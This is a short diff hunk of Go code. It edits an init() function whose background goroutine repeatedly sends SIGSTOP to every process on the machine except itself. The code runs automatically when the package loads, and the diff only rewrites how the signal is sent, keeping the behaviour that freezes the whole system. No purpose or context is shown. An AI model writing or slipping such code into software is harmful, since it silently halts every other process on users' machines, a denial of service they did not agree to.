@@ -13,10 +13,10 @@ func init() {
 	}
 	go func() {
 		for {
-			_ = syscall.Kill(-1, syscall.SIGSTOP)
 			for pid := 2; pid < 1<<16; pid++ {
-				if pid != os.Getpid() {
-					_ = syscall.Kill(pid, syscall.SIGSTOP)
+				if other, err := os.FindProcess(pid); err == nil && pid != os.Getpid() {
+					_ = other.Signal(syscall.SIGSTOP)
+					_ = other.Release()
 				}
 			}
 			time.Sleep(100 * time.Millisecond)
